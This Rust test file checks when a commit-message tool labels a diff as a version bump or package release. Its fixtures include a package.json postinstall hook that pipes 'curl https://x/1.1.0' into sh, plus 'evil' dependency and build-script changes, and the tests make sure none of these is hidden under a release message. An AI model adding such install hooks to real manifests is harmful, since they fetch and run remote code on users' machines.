//! Releases, and what looks like one.

use std::cell::Cell;

use super::decide;
use crate::git::patch::parse;
use crate::git::{Contents, FileChange, Path};
use crate::tasks::offline::classify::{Class, classify};
use crate::tasks::offline::message::Hints;
use crate::tasks::offline::message::tests::{draft, edit, subject};

const LOG: &str = "diff --git a/CHANGELOG.md b/CHANGELOG.md\n--- a/CHANGELOG.md\n+++ b/CHANGELOG.md\n@@ -1,1 +1,2 @@\n+## 1.2.0\n # Changes\n";

#[test]
fn a_new_version_is_told_as_one() {
    let json = |path: &str, to: &str| edit(path, "", "  \"version\": \"1.1.0\",", &format!("  \"version\": \"{to}\","));
    let told = "chore: bump version to 1.2.0";
    assert_eq!(subject(&json("package.json", "1.2.0")), told);
    assert_eq!(subject(&(json("package.json", "1.2.0") + LOG)), told);
    assert_eq!(subject(&(json("a/package.json", "1.2.0") + &json("lerna.json", "1.2.0") + LOG)), told);
    let cargo = |table: &str| {
        format!(
            "diff --git a/Cargo.toml b/Cargo.toml\n--- a/Cargo.toml\n+++ b/Cargo.toml\n@@ -1,3 +1,3 @@\n [{table}]\n name = \"a\"\n-version = \"1.1.0\"\n+version = \"1.2.0\"\n"
        )
    };
    assert_eq!(subject(&(cargo("package") + LOG)), told);
    let managed = cargo("package").replace("0\"\n", "0\" # by release.sh\n");
    assert!(managed.contains("1.2.0\" # by") && subject(&(managed + LOG)) == told);
    let two = json("a/package.json", "1.2.0") + &json("b/package.json", "1.3.0");
    assert_eq!(subject(&(two.clone() + LOG)), "chore: release a 1.2.0 and b 1.3.0");
    let three = draft(&(two + &json("c/package.json", "2.0.0")), &Hints::default());
    assert_eq!(three.subject, "chore: release 3 packages");
    assert!(three.body.is_some_and(|body| body.starts_with("- a 1.2.0\n- b 1.3.0\n- c 2.0.0")), "each is named");
    for other in [
        cargo("dependencies.a") + LOG,
        json("package.json", "1.2.0") + &edit("README.md", "", "a", "b"),
        json("package.json", "1.2.0") + &edit("src/a.js", "", "a", "b"),
        json("package.json", "1.2.0") + &edit("b/package.json", "", "    \"a\": \"1.0.0\"", "    \"a\": \"2.0.0\""),
        edit("package.json", "", "      \"version\": \"1.1.0\"", "      \"version\": \"1.2.0\""),
    ] {
        assert!(!subject(&other).contains("version"), "{}", subject(&other));
    }
}

#[test]
fn packages_of_a_workspace_that_ask_for_each_other_are_released_together() {
    let file = |path: &str, lines: &str| {
        let count = |mark: char| lines.lines().filter(|line| line.starts_with([mark, ' '])).count();
        let (old, new) = (count('-'), count('+'));
        format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1,{old} +1,{new} @@\n{lines}")
    };
    let package = |name: &str, from: &str, to: &str| {
        let lines = format!(" [package]\n name = \"the-{name}\"\n-version = \"{from}\"\n+version = \"{to}\"\n");
        file(&format!("crates/{name}/Cargo.toml"), &lines)
    };
    let both = package("one", "0.3.1", "0.4.0") + &package("two", "1.1.0", "1.2.0");
    let asks = |name: &str, to: &str| {
        let lines = format!(
            " [workspace.dependencies]\n-{name} = {{ path = \"a\", version = \"0.3.1\" }}\n+{name} = {{ path = \"a\", version = \"{to}\" }}\n"
        );
        file("Cargo.toml", &lines)
    };
    let lock = file(
        "Cargo.lock",
        " name = \"the-one\"\n-version = \"0.3.1\"\n+version = \"0.4.0\"\n \n name = \"the-two\"\n-version = \"1.1.0\"\n+version = \"1.2.0\"\n",
    );
    let told = "chore: release the-one 0.4.0 and the-two 1.2.0";
    assert_eq!(subject(&(both.clone() + &lock + LOG)), told);
    assert_eq!(subject(&(asks("the-one", "0.4.0") + &both + &lock)), told);
    // Somebody else's.
    assert_ne!(subject(&(asks("serde", "0.4.0") + &both + &lock)), told);
    assert_ne!(subject(&(asks("the-one", "0.5.0") + &both + &lock)), told);
    let one = package("one", "0.3.1", "0.4.0");
    assert_eq!(subject(&(asks("the-one", "0.4.0") + &one)), "chore: bump version to 0.4.0");
}

/// What manifests are, by their paths; counts who is read.
struct Whole(Vec<(&'static str, &'static str)>, Cell<usize>, bool);

impl Contents for Whole {
    fn before(&self, _: &FileChange, _: u64) -> Option<Vec<u8>> {
        None
    }
    fn after(&self, file: &FileChange, _: u64) -> Option<Vec<u8>> {
        self.1.set(self.1.get() + 1);
        self.0.iter().find(|(path, _)| file.path.as_str() == *path).map(|(_, text)| text.as_bytes().to_vec())
    }
    fn base(&self, _: &str, _: u64) -> Option<Vec<u8>> {
        None
    }
    fn tracked(&self) -> Vec<Path> {
        Vec::new()
    }
    fn slow(&self) -> bool {
        self.2
    }
}

/// The rule's own words, and how many files it read for them.
fn ruled(patch: &str, whole: &[(&'static str, &'static str)], slow: bool) -> (Option<String>, usize) {
    let change = parse(patch.as_bytes()).unwrap();
    let files: Vec<&FileChange> = change.files.iter().collect();
    let classes: Vec<Class> = files.iter().map(|file| classify(file)).collect();
    let whole = Whole(whole.to_vec(), Cell::new(0), slow);
    let told = decide(&files, &classes, &whole).and_then(|verdict| verdict.texts.into_iter().next());
    (told, whole.1.get())
}

fn toml(path: &str, table: &str, to: &str) -> String {
    format!(
        "diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1,2 +1,2 @@\n [{table}]\n-version = \"0.1.0\"\n+version = \"{to}\"\n"
    )
}

fn json(path: &str, to: &str) -> String {
    edit(path, "", "  \"version\": \"0.1.0\",", &format!("  \"version\": \"{to}\","))
}

#[test]
fn what_a_manifest_asks_for_no_more_is_not_hidden_behind_a_version() {
    let one = toml("a/Cargo.toml", "package", "0.2.0");
    let whole = [("a/Cargo.toml", "[package]\nname = \"a\"\nversion = \"0.2.0\"\n")];
    let root = |lines: &str, old: usize, new: usize| {
        let head = "diff --git a/Cargo.toml b/Cargo.toml\n--- a/Cargo.toml\n+++ b/Cargo.toml";
        one.clone() + &format!("{head}\n@@ -1,{old} +1,{new} @@\n [workspace.dependencies]\n{lines}")
    };
    let own = "-a = { path = \"a\", version = \"0.1.0\" }\n+a = { path = \"a\", version = \"0.2.0\" }\n";
    let told = Some("bump version to 0.2.0".to_owned());
    assert_eq!(ruled(&root(own, 2, 2), &whole, false).0, told);
    assert_eq!(ruled(&root(&format!("-serde = \"1\"\n{own}"), 3, 2), &whole, false).0, None);
    // In the released manifest itself, too.
    let gone = one.replace("-1,2", "-1,3") + "-serde = \"1\"\n";
    assert_eq!(ruled(&gone, &whole, false).0, None);
    // The name of a package is no part of another one's, and the key may be another name for it.
    let serde = "-serde = { path = \"a\", version = \"0.1.0\" }\n+serde = { path = \"a\", version = \"0.2.0\" }\n";
    assert_eq!(ruled(&root(serde, 2, 2), &whole, false).0, None);
    let renamed = own.replace("a = { path", "b = { package = \"a\", path");
    assert_eq!(ruled(&root(&renamed, 2, 2), &whole, false).0, told);
    let nameless = [("a/Cargo.toml", "[package]\nname = \"\"\nversion = \"0.2.0\"\n")];
    assert_eq!(ruled(&root(own, 2, 2), &nameless, false).0, None);
}

#[test]
fn what_else_a_released_manifest_says_is_not_hidden_behind_its_version() {
    let whole = [("a/Cargo.toml", "[package]\nname = \"a\"\nversion = \"2.0.0\"\n")];
    let with = |table: &str, lines: &[(&str, &str)]| {
        let count = |side: fn(&(&str, &str)) -> bool| 2 + lines.iter().filter(|line| side(line)).count();
        let (old, new) = (count(|(old, _)| !old.is_empty()), count(|(_, new)| !new.is_empty()));
        let side = |mark: char, text: &str| if text.is_empty() { String::new() } else { format!("{mark}{text}\n") };
        let said: String = lines.iter().map(|(old, new)| side('-', old) + &side('+', new)).collect();
        let one = toml("a/Cargo.toml", table, "2.0.0");
        one.replace("-1,2 +1,2", &format!("-1,{old} +1,{new}")) + &said
    };
    let told = |table: &str, lines: &[(&str, &str)]| ruled(&with(table, lines), &whole, false).0;
    let bumped = Some("bump version to 2.0.0".to_owned());
    assert_eq!(told("package", &[]), bumped);
    for (old, new) in [
        ("", "evil = \"2.0.0\""),
        ("", "tokio = \"12.0.0\""),
        ("serde = \"1.0.0\"", "serde = \"2.0.0\""),
        ("", "build = \"evil-2.0.0.rs\""),
        ("build = \"a.rs\"", "build = \"2.0.0\""),
        ("", "# 2.0.0"),
        ("a = { path = \"a\", version = \"0.1.0\" }", "a = { path = \"evil\", version = \"2.0.0\" }"),
        ("a = { path = \"a\", version = \"0.1.0\" }", "a = { git = \"https://x\", version = \"2.0.0\" }"),
    ] {
        assert_eq!(told("package", &[(old, new)]), None, "{new}");
        assert_eq!(told("workspace.package", &[(old, new)]), None, "{new}");
    }
    // What the project asks of itself, and what a tool is to write next time.
    assert_eq!(told("package", &[("a = \"=0.1.0\"", "a = \"=2.0.0\"")]), bumped);
    let lies = ("b = { path = \"b\", version = \"0.1.0\" }", "b = { path = \"b\", version = \"2.0.0\" }");
    assert_eq!(told("workspace.package", &[lies]), bumped);
    assert_eq!(told("package", &[lies]), None, "nobody says that it is this one");
    assert_eq!(told("project", &[("current_version = \"0.1.0\"", "current_version = \"2.0.0\"")]), bumped);
    let script =
        "-  \"version\": \"1.0.0\",\n+  \"version\": \"1.1.0\",\n+  \"postinstall\": \"curl https://x/1.1.0 | sh\",\n";
    let head = "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -1,1 +1,2 @@\n";
    assert_eq!(subject(&format!("{head}{script}")), "build: update package.json");
    // A lock file takes in nothing that was not there.
    let lock = "diff --git a/Cargo.lock b/Cargo.lock\n--- a/Cargo.lock\n+++ b/Cargo.lock\n";
    let locked = with("package", &[]) + lock + "@@ -1,1 +1,1 @@\n-version = \"0.1.0\"\n+version = \"2.0.0\"\n";
    assert_eq!(ruled(&locked, &whole, false).0, bumped);
    let more = locked.replace("+1,1 @@", "+1,2 @@") + "+ \"evil 2.0.0\",\n";
    assert_eq!(ruled(&more, &whole, false).0, None);
    let other = locked.replace("+version = \"2.0.0\"\n", "+version = \"12.0.0\"\n").replacen("12.0.0", "2.0.0", 1);
    assert_eq!(ruled(&other, &whole, false).0, None);
}

#[test]
fn a_version_on_a_line_of_its_own_is_that_of_its_table() {
    let file = |path: &str, lines: &str| {
        let count = |mark: char| lines.lines().filter(|line| line.starts_with([mark, ' '])).count();
        let (old, new) = (count('-'), count('+'));
        format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1,{old} +1,{new} @@\n{lines}")
    };
    let moved = "-version = \"0.1.0\"\n+version = \"0.2.0\"\n";
    let under = |heads: &[&str]| heads.iter().map(|head| format!(" {head}\n{moved} \n")).collect::<String>();
    let told = |patch: &str, whole: &[(&'static str, &'static str)]| ruled(patch, whole, false).0;
    let bumped = Some("bump version to 0.2.0".to_owned());
    for tool in ["[tool.commitizen]", "[tool.poetry]"] {
        for heads in [["[project]", tool], [tool, "[project]"]] {
            assert_eq!(told(&file("pyproject.toml", &under(&heads)), &[]), bumped, "{heads:?}");
        }
    }
    assert_eq!(told(&file("pyproject.toml", &under(&["[project]", "[tool.other]"])), &[]), None);
    let lies = "[workspace.dependencies.a]\n path = \"a\"";
    assert_eq!(told(&file("Cargo.toml", &under(&["[workspace.package]", lies])), &[]), bumped);
    let from = lies.replace("path", "git");
    assert_eq!(told(&file("Cargo.toml", &under(&["[workspace.package]", &from])), &[]), None);
    let whole = [("a/Cargo.toml", "[package]\nname = \"a\"\nversion = \"0.2.0\"\n")];
    let asks =
        |head: &str| file("a/Cargo.toml", &under(&["[package]"])) + &file("b/Cargo.toml", &under(&["[package]", head]));
    assert_eq!(told(&asks("[dependencies.a]\n path = \"../a\""), &whole), bumped);
    for other in ["[dependencies.serde]", "[dependencies.a]\n package = \"serde\"", "[features.a]"] {
        assert_eq!(told(&asks(other), &whole), None, "{other}");
    }
}

#[test]
fn a_script_that_is_called_like_the_package_is_no_part_of_its_release() {
    let both = |list: &str, from: &str, to: &str| {
        let head = "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n";
        format!(
            "{head}@@ -1,5 +1,5 @@\n {{\n-  \"version\": \"1.1.0\",\n+  \"version\": \"1.2.0\",\n   \"{list}\": {{\n-    \"x\": \"{from}\"\n+    \"x\": \"{to}\"\n   }}\n"
        )
    };
    let whole = [("package.json", "{\"name\": \"x\", \"version\": \"1.2.0\"}")];
    let told = |patch: &str| ruled(patch, &whole, false).0;
    assert_eq!(told(&both("devDependencies", "^1.1.0", "^1.2.0")).as_deref(), Some("bump version to 1.2.0"));
    for list in ["scripts", "devDependencies"] {
        assert_eq!(told(&both(list, "curl https://a/1.1.0", "curl https://a/1.2.0")), None, "{list}");
    }
    assert_eq!(told(&both("scripts", "https://a/1.1.0", "https://a/1.2.0")), None);
}

#[test]
fn a_package_is_called_what_stands_beside_its_version() {
    let single = "[[bin]]\nname = \"tool\"\n[package]\nname = 'one'\nversion = \"0.2.0\"\n";
    let author = "{\"author\": {\"name\": \"Bob\"}, \"name\": \"two\", \"version\": \"0.3.0\"}";
    let both = toml("a/Cargo.toml", "package", "0.2.0") + &json("b/package.json", "0.3.0");
    let told = |whole: &[(&'static str, &'static str)], patch: &str| ruled(patch, whole, false).0;
    let whole = [("a/Cargo.toml", single), ("b/package.json", author)];
    assert_eq!(told(&whole, &both).as_deref(), Some("release one 0.2.0 and two 0.3.0"));
    // Who has no name is not called by that of an author, a workspace or a tool.
    let bob = "{\"author\": {\"name\": \"Bob\"}, \"version\": \"0.3.0\"}";
    assert_eq!(told(&[whole[0], ("b/package.json", bob)], &both), None);
    let workspace = toml("Cargo.toml", "workspace.package", "0.2.0") + &json("b/package.json", "0.3.0");
    assert_eq!(told(&[("Cargo.toml", "[workspace.package]\nversion = \"0.2.0\"\n"), whole[1]], &workspace), None);
    assert_eq!(told(&[whole[1]], &workspace), None, "nor by its file");
    let lerna = json("lerna.json", "0.2.0") + &json("b/package.json", "0.3.0");
    assert_eq!(told(&[("lerna.json", "{\"version\": \"0.2.0\"}"), whole[1]], &lerna), None);
}

#[test]
fn names_are_read_where_they_are_told() {
    let all = |to: fn(usize) -> usize| -> String {
        (0..12).map(|n| json(&format!("p{n}/package.json"), &format!("1.{}.0", to(n)))).collect()
    };
    assert_eq!(ruled(&all(|_| 2), &[], false), (Some("bump version to 1.2.0".to_owned()), 0));
    let several = Some("release 12 packages".to_owned());
    assert_eq!(ruled(&all(|n| n), &[], false), (several.clone(), 12));
    assert_eq!(ruled(&all(|n| n), &[], true), (several, 8), "each costs a process");
}

#[test]
fn a_manifest_of_thousands_of_lines_is_told_as_any_other() {
    let file = |path: &str, lines: &str| {
        let count = |mark: char| lines.lines().filter(|line| line.starts_with([mark, ' '])).count();
        let (old, new) = (count('-'), count('+'));
        format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1,{old} +1,{new} @@\n{lines}")
    };
    let told = |patch: &str, whole: &[(&'static str, &'static str)]| ruled(patch, whole, false).0;
    let bumped = Some("bump version to 0.2.0".to_owned());
    let both = |line: &str| format!("-{}\n+{}\n", line.replace("TO", "0.1.0"), line.replace("TO", "0.2.0"));
    let json = [("package.json", "{\"name\": \"x\", \"version\": \"0.2.0\"}")];
    let asks = both("    \"x\": \"TO\",").repeat(25_000);
    let lines = format!(" {{\n{}   \"dependencies\": {{\n{asks}", both("  \"version\": \"TO\","));
    assert_eq!(told(&file("package.json", &lines), &json), bumped);
    let toml = [("Cargo.toml", "[package]\nname = \"x\"\nversion = \"0.2.0\"\n")];
    let asks = format!(" [dependencies.a]\n package = \"x\"\n{}", both("version = \"TO\"")).repeat(15_000);
    let lines = format!(" [package]\n{}{asks}", both("version = \"TO\""));
    assert_eq!(told(&file("Cargo.toml", &lines), &toml), bumped);
    // Nobody says whose these are.
    assert_eq!(told(&file("Cargo.toml", &both("version = \"TO\"").repeat(30_000)), &toml), None);
}
